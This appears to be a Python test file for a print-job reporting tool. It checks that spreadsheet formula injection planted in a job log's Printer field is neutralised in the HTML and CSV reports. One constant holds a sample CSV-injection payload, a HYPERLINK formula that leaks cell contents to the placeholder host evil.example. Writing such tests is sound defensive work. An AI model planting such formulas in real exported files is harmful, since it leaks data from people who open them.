"""The report shows only rule words and no formulas, whatever a job log's free text says."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from printharvest.app import App
from printharvest.reports import build_report, render_csv, render_html
from tests.support.paths import SAMPLE_JOBS

LOG = SAMPLE_JOBS / "formats" / "joblog-csv" / "grabcad-print-report.csv"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Fortus 450")'


def test_job_log_free_text_never_reaches_the_report(home: Path, tmp_path: Path) -> None:
    rows = list(csv.reader(io.StringIO(LOG.read_text(encoding="utf-8-sig")), delimiter=";"))
    header = rows[0]
    printer = header.index("Printer")
    for row in rows[1:]:
        row[printer] = FORMULA
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    (inbox / "jobs.csv").write_text(out.getvalue(), encoding="utf-8")
    app = App.open(home)
    try:
        outcome = app.harvester.harvest_paths([inbox])
        assert outcome.items, "the job log was read"
        assert any(i.record.printer and i.record.printer.label == FORMULA
                   for i in outcome.items), "the log's free text is in the record"
        app.cases.ingest(outcome)
        report = build_report(app)
        html, text = render_html(report), render_csv(report)
    finally:
        app.close()
    for output in (html, text):
        assert "HYPERLINK" not in output and "evil.example" not in output
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and
                not c.lstrip("-").replace(".", "", 1).isdigit())]


def test_report_csv_quotes_formula_characters() -> None:
    from printharvest.reports.render import _cell

    assert _cell("=1+2") == "'=1+2" and _cell("@SUM(A1)") == "'@SUM(A1)"
    assert _cell("-cmd") == "'-cmd" and _cell(-3) == -3 and _cell("kidney") == "kidney"
